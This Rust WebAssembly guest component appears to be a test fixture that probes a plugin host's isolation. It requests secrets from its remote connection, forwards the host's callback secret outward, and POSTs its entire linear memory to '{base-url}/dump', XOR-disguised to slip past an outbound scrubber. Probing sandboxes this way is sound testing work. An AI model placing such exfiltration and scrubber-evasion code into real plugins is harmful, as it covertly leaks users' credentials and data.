//! Asks its remote for its secret in every form, by `fetch` and over `wasi:http`, shows
//! what comes wherever it can, and then sends its whole memory there, disguised: whatever
//! the host let in is in it.
#![cfg(target_arch = "wasm32")]

use guest_common::{
    Error, OtherFailure, TRIGGER, context, describe, export, fetch, guest, log, quote, send, subscriptions, unquote,
    wasi, webhooks,
};

guest!(act, || {
    let auth = ["basic", "header", "query", "none"].map(|scheme| format!(r#",{{"scheme":"{scheme}","help":"Any."}}"#));
    let part = r#""subscription":{"destinations":["* {base-url}/**"],"by_hand":"In the settings."},"config""#;
    describe(env!("CARGO_PKG_NAME"))
        .replacen(r#""help":"Any token."}"#, &format!(r#""help":"Any token."}}{}"#, auth.concat()), 1)
        .replace("\"triggers\":[]", &format!("\"triggers\":[{}]", TRIGGER.replacen("\"config\"", part, 1)))
});
export!(receives, subscribes);

/// What a scrubber that looks at what leaves cannot read.
const DISGUISE: u8 = 0x5a;
/// Of one request, below any limit.
const PIECE_BYTES: usize = 1 << 20;
const PAGE_BYTES: usize = 64 << 10;

/// The input is the way to end, and then paths, with blanks between.
fn act(input: &str) -> Result<String, Error> {
    let mut words = unquote(input).split(' ');
    let way = words.next().unwrap_or_default();
    let seen = ask_for_all(words, b"");
    dump();
    match way {
        "answer" => Ok(quote(&seen)),
        "error" => Err(Error::Permanent(seen)),
        "other" => Err(Error::Other(OtherFailure { code: seen.clone(), details: quote(&seen) })),
        _ => panic!("{seen}"),
    }
}

/// Everything that came, kept until the end, and shown in log and standard error.
fn ask_for_all<'p>(paths: impl Iterator<Item = &'p str>, body: &[u8]) -> String {
    let base = context::current().connection.and_then(|connection| connection.base_url);
    let method = if body.is_empty() { "GET" } else { "POST" };
    let mut seen = String::new();
    for path in paths {
        // Only `fetch` knows where the connection leads.
        let streamed = |base: &String| ask_over_wasi(method, base, path, body);
        for answer in [Some(ask(method, path, body)), base.as_ref().map(streamed)].into_iter().flatten() {
            log::write(log::Level::Info, &answer, &[("seen".to_owned(), answer.clone())]);
            eprint!("{answer}");
            seen.push_str(&answer);
        }
    }
    seen
}

fn ask(method: &str, path: &str, body: &[u8]) -> String {
    match send(method, &format!("{{base-url}}/{path}"), &[], fetch::Body::Bytes(body.to_vec())) {
        Ok(answer) => {
            let body = String::from_utf8_lossy(&answer.body);
            format!("{path}: {} {:?} {} {body}\n", answer.status, answer.headers, answer.url)
        }
        Err(error) => format!("{path}: {error:?}\n"),
    }
}

/// The same for an answer that comes in pieces, and for what it broke off with.
fn ask_over_wasi(method: &str, base: &str, path: &str, body: &[u8]) -> String {
    let url = format!("{}/{path}", base.trim_end_matches('/'));
    let pieces = [body];
    match wasi::ask(method, &url, &[], (!body.is_empty()).then_some(&pieces[..])) {
        Ok(answer) => {
            let body = String::from_utf8_lossy(&answer.body);
            format!("{path} over wasi: {} {:?} {:?} {body}\n", answer.status, answer.headers, answer.broke_off)
        }
        Err(refused) => format!("{path} over wasi: {refused}\n"),
    }
}

/// Sends all of the linear memory but the first bytes, where no object can be.
fn dump() {
    let end = core::arch::wasm32::memory_size(0) * PAGE_BYTES;
    let mut at = 16;
    while at < end {
        let len = PIECE_BYTES.min(end - at);
        let piece: Vec<u8> = (at..at + len).map(|address| byte_at(address) ^ DISGUISE).collect();
        let sent = send("POST", "{base-url}/dump", &[], fetch::Body::Bytes(piece));
        assert!(sent.is_ok(), "the dump did not arrive: {sent:?}");
        at += len;
    }
}

#[allow(unsafe_code, reason = "reads this instance's own memory, all of which is there")]
fn byte_at(address: usize) -> u8 {
    // SAFETY: below `memory_size`, above zero; bytes have no alignment and any value.
    unsafe { core::ptr::read_volatile(address as *const u8) }
}

impl webhooks::Guest for Guest {
    fn receive(_: String, _: String, delivery: webhooks::Delivery) -> Result<Vec<webhooks::Event>, Error> {
        let seen = format!("{:?} {} {}", delivery.headers, delivery.query, String::from_utf8_lossy(&delivery.body));
        log::write(log::Level::Info, &seen, &[]);
        Ok(vec![webhooks::Event { dedupe_key: None, payload: quote(&seen) }])
    }
}

impl subscriptions::Guest for Guest {
    /// Sends what the host gave for the secret, as services want it, and asks for it back.
    fn subscribe(
        _: String,
        config: String,
        callback: subscriptions::Callback,
    ) -> Result<subscriptions::Subscription, Error> {
        let reference = callback.secret.unwrap_or_default();
        let seen = ask_for_all(unquote(&config).split(' '), reference.as_bytes());
        dump();
        log::write(log::Level::Info, &seen, &[]);
        Ok(subscriptions::Subscription { handle: "1".to_owned(), expires_ms: None })
    }

    fn renew(
        trigger: String,
        config: String,
        callback: subscriptions::Callback,
        _: String,
    ) -> Result<subscriptions::Subscription, Error> {
        Self::subscribe(trigger, config, callback)
    }

    fn unsubscribe(_: String, _: String, _: String) -> Result<(), Error> {
        Ok(())
    }
}
